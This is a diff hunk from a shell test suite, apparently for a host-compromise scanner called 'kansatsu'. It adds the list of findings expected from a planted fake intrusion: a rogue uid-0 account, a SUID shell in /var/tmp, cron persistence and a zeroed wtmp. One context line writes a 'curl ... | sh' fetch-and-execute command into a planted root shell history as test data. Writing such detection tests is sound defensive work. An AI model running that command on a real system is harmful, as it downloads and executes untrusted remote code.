@@ -143,6 +143,16 @@ make_tree() {
 	printf 'curl -s http://203.0.113.9/x.sh | sh\n' >>"$r/root/.bash_history"
 }
 
+# What `kansatsu host --root` finds in the planted tree, as findings_of
+# prints it.
+planted_findings="account-uid0 toor
+file-odd-dir /usr/lib/...
+file-suid-tmp /var/tmp/sh
+history-fetch-exec /root/.bash_history
+login-record-zeroed /var/log/wtmp
+persist-changed-recently /etc/cron.d/sysupdate
+persist-tmp-exec /etc/cron.d/sysupdate"
+
 # The findings as "rule path-or-user" lines, sorted.
 findings_of() {
 	jq -r '.rule + " " + (.file.path // .user.name // "-")' | LC_ALL=C sort
